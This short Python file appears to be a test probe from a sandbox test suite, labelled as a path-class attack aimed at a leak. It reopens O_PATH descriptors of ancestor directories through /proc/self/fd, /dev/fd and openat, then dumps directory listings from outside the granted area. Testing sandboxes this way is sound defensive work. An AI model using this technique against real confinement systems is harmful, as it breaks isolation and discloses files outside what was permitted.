# SPDX-License-Identifier: Apache-2.0
# attack: a descriptor of an ancestor of the grant, got by O_PATH, is reopened and listed
# class: path
# wins: leak
from kit import *

tried()
for p in (OUT, os.path.dirname(BOX), '/'):
    fd = openat(p, os.O_PATH)
    if fd < 0:
        continue
    for again in (openat('/proc/self/fd/%d' % fd), openat('.', 0, fd), openat('/dev/fd/%d/.' % fd), openat('box1', 0, fd)):
        if again >= 0:
            b = ctypes.create_string_buffer(32768)
            n = sc('getdents64', again, b, 32768)
            os.write(1, b.raw[:max(n, 0)])
